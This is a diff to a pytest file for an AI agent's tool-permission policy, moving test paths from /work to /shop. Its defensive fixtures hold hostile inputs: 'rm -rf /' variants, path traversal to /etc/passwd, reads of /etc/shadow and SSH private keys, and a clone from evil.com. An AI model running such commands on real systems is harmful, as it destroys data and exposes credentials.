@@ -12,7 +12,7 @@ from codexmem.domain.policy.paths import Around
 from codexmem.domain.policy.rules import BUILT_IN
 from codexmem.domain.tool_access import Cause, Risk, ToolRequest, Verdict, argument_hash
 
-HERE = Around("/work", "/home/u")
+HERE = Around("/shop", "/home/u")
 ALLOW, DENY, ASK = Verdict.ALLOW, Verdict.DENY, Verdict.ASK
 
 
@@ -21,7 +21,7 @@ def policy(allow: Any = (), deny: Any = (), ask: Any = (), mode: str = "dev", ma
 
 
 def shell(command: str) -> ToolRequest:
-    return ToolRequest("Bash", command=command, cwd="/work")
+    return ToolRequest("Bash", command=command, cwd="/shop")
 
 
 @pytest.mark.clause("001 §5.2", "deny beats ask, ask beats allow, and what no rule knows is asked")
@@ -62,15 +62,15 @@ RULES: list[tuple[object, ToolRequest, bool]] = [
     ("domain:example.com", ToolRequest("WebFetch", urls=("https://example.com/", "https://evil.com/")), False),
     ("domain:example.com", ToolRequest("frobnicate", urls=("https://example.com/",)), False),
     ("domain:例え.jp", ToolRequest("WebFetch", urls=("https://xn--r8jz45g.jp/",)), True),
-    ("path:/work", ToolRequest("Write", paths=("src/a.py",), cwd="/work"), True),
-    ("path:/work", ToolRequest("Write", paths=("/workshop/a",)), False),
-    ("path:/work", ToolRequest("Write", paths=("/work/../etc/passwd",)), False),
-    ("path:/work", ToolRequest("Write", paths=("/work/a", "/tmp/b")), False),
-    ("path:/work", ToolRequest("Write", paths=("/WORK/a",)), False),
-    ("path:/work", ToolRequest("WebFetch", paths=("/work/a",)), False),
-    ("path:/work", ToolRequest("mcp__x__y", paths=("/work/a",)), False),
-    ("path:/work", ToolRequest("Bash", command="rm -rf /", paths=("/work/a",)), False),
-    ({"tool": "Bash", "path": "/work"}, ToolRequest("Bash", command="rm -rf /", paths=("/work/a",)), False),
+    ("path:/shop", ToolRequest("Write", paths=("src/a.py",), cwd="/shop"), True),
+    ("path:/shop", ToolRequest("Write", paths=("/shopping/a",)), False),
+    ("path:/shop", ToolRequest("Write", paths=("/shop/../etc/passwd",)), False),
+    ("path:/shop", ToolRequest("Write", paths=("/shop/a", "/tmp/b")), False),
+    ("path:/shop", ToolRequest("Write", paths=("/SHOP/a",)), False),
+    ("path:/shop", ToolRequest("WebFetch", paths=("/shop/a",)), False),
+    ("path:/shop", ToolRequest("mcp__x__y", paths=("/shop/a",)), False),
+    ("path:/shop", ToolRequest("Bash", command="rm -rf /", paths=("/shop/a",)), False),
+    ({"tool": "Bash", "path": "/shop"}, ToolRequest("Bash", command="rm -rf /", paths=("/shop/a",)), False),
     ("risk:write", ToolRequest("Edit"), True),
     ("risk:write", ToolRequest("Read"), True),
     ("risk:write", ToolRequest("Bash"), False),
@@ -113,7 +113,7 @@ HELD: list[tuple[object, ToolRequest, bool]] = [
     ("domain:evil.com", shell("git clone git@evil.com:a/b"), True),
     ("domain:127.0.0.1", ToolRequest("WebFetch", urls=("http://2130706433/",)), True),
     ("domain:127.0.0.1", ToolRequest("WebFetch", urls=("http://[::ffff:7f00:1]/",)), True),
-    ("path:/etc", ToolRequest("Read", paths=("../etc/passwd",), cwd="/work"), True),
+    ("path:/etc", ToolRequest("Read", paths=("../etc/passwd",), cwd="/shop"), True),
     ("path:/etc", ToolRequest("Read", urls=("file:///etc/passwd",)), True),
     ("path:/etc", ToolRequest("Read", paths=("/ETC/passwd",)), True),
     ("path:~/.ssh", shell("cat ~/.ssh/id_ed25519"), True),
@@ -122,7 +122,7 @@ HELD: list[tuple[object, ToolRequest, bool]] = [
     ("path:/etc", shell("tar --file=/etc/shadow"), True),
     ("path:/etc", shell("bash -c 'cat /etc/passwd'"), True),
     ("path:/etc", shell("cat passwd"), False),
-    ("path:/work", shell("cat passwd"), True),
+    ("path:/shop", shell("cat passwd"), True),
     ("command:rm -rf", shell("echo a && sudo /bin/rm -rf /"), True),
     ("command:rm -rf", shell("r\\m -rf x"), True),
     ("command:rm -rf", shell("find . -name x -exec rm -rf x +"), True),
@@ -156,17 +156,17 @@ def test_what_no_rule_names_passes_up_to_its_class(most: str, allowed: int) -> N
 
 
 def test_a_tool_that_a_rule_allows_for_something_is_asked_about_for_the_rest() -> None:
-    rules = policy([{"tool": "Read", "path": "/work"}], max_risk="read")
-    assert rules.decide(ToolRequest("Read", paths=("/work/a",))).verdict is ALLOW
+    rules = policy([{"tool": "Read", "path": "/shop"}], max_risk="read")
+    assert rules.decide(ToolRequest("Read", paths=("/shop/a",))).verdict is ALLOW
     assert rules.decide(ToolRequest("Read", paths=("/tmp/a",))).verdict is ASK
     assert rules.decide(ToolRequest("Grep", paths=("/tmp/a",))).verdict is ALLOW
 
 
 def test_files_that_hold_secrets_are_never_read_by_class_alone() -> None:
     rules = policy(max_risk="read")
-    for path in ("/work/.env", "/home/u/.ssh/id_rsa", "/work/tls.pem"):
+    for path in ("/shop/.env", "/home/u/.ssh/id_rsa", "/shop/tls.pem"):
         assert rules.decide(ToolRequest("Read", paths=(path,))).verdict is ASK
-    assert policy(["Read"]).decide(ToolRequest("Read", paths=("/work/.env",))).verdict is ALLOW
+    assert policy(["Read"]).decide(ToolRequest("Read", paths=("/shop/.env",))).verdict is ALLOW
 
 
 @pytest.mark.clause("001 §5.1", "a marker in text (TOOL_REQUEST:) may raise a question and never grants")
@@ -197,16 +197,16 @@ def test_what_cannot_be_read_is_asked_where_a_rule_might_be_broken(request_: Too
 
 
 def test_a_link_must_lead_to_where_the_rule_allows() -> None:
-    around = Around("/work", "/home/u", lambda path: path.replace("/work/link", "/etc"))
-    rules = Policy.parse(["path:/work"], max_risk="none", around=around)
-    assert rules.decide(ToolRequest("Read", paths=("/work/a",))).verdict is ALLOW
-    assert rules.decide(ToolRequest("Read", paths=("/work/link/passwd",))).verdict is ASK
+    around = Around("/shop", "/home/u", lambda path: path.replace("/shop/link", "/etc"))
+    rules = Policy.parse(["path:/shop"], max_risk="none", around=around)
+    assert rules.decide(ToolRequest("Read", paths=("/shop/a",))).verdict is ALLOW
+    assert rules.decide(ToolRequest("Read", paths=("/shop/link/passwd",))).verdict is ASK
     denied = Policy.parse(["*"], ["path:/etc"], around=around)
     assert denied.decide(ToolRequest("Read", paths=("link/passwd",))).verdict is DENY
 
 
 def test_a_request_that_names_more_than_is_looked_at_is_asked() -> None:
-    many = ToolRequest("Read", paths=tuple(f"/work/{number}" for number in range(501)))
+    many = ToolRequest("Read", paths=tuple(f"/shop/{number}" for number in range(501)))
     assert policy(["*"]).decide(many).verdict is ASK
 
 
@@ -237,7 +237,7 @@ def test_a_decision_is_bound_to_its_request() -> None:
         ("path:relative", "no path that can be placed"), ("path:~root/x", "no path that can be placed"),
         ({"tool": "x", "mode": "staging"}, "mode is not known"), ("command:a; b", "more than plain words"),
         ({"path": "/a", "domain": "b.c"}, "both a path and an address"),
-        ({"command": "cat", "path": "/work"}, "cannot be told from its words"), ("搜索", "not plain ASCII"),
+        ({"command": "cat", "path": "/shop"}, "cannot be told from its words"), ("搜索", "not plain ASCII"),
     ],
 )  # fmt: skip
 def test_a_rule_that_cannot_be_meant_is_refused_with_what_to_write(rule: object, said: str) -> None:
